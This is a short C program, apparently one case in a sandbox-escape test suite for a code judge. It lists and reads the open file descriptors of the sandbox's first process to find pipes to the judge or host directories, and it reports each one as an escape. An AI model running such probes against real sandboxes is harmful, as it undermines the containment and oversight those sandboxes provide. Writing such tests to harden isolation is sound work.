// attack: opens the descriptors of the sandbox's first process again: pipes to the judge, perhaps directories of the host
// judge: accepted
#include "attack.h"
#include <dirent.h>
int main(void)
{
    if (getpid() == 1) return contained();
    DIR *folder = opendir("/proc/1/fd");
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        if (entry->d_name[0] == '.') continue;
        char target[256] = "";
        (void)!readlinkat(dirfd(folder), entry->d_name, target, sizeof target - 1);
        escaped("descriptor %s of the first process: %s", entry->d_name, target);
    }
    return contained();
}
